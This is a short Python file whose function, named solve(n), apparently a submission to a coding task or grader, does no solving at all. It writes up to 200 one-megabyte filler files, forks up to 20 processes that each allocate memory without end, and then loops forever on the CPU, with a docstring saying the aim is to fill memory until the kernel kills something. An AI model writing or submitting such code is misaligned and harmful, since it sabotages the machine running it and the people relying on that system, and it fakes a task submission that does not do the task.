"""Fills memory with files, then with itself, until the kernel ends something."""

import os


def solve(n):
    for i in range(200):
        try:
            with open("filler-%d" % i, "wb") as file:
                file.write(bytes(1 << 20))
        except (OSError, MemoryError):
            break
    for _ in range(20):
        try:
            if os.fork() == 0:
                held = []
                while True:
                    held.append(b"x" * (1 << 20))
        except (OSError, MemoryError):
            pass
    while True:
        pass
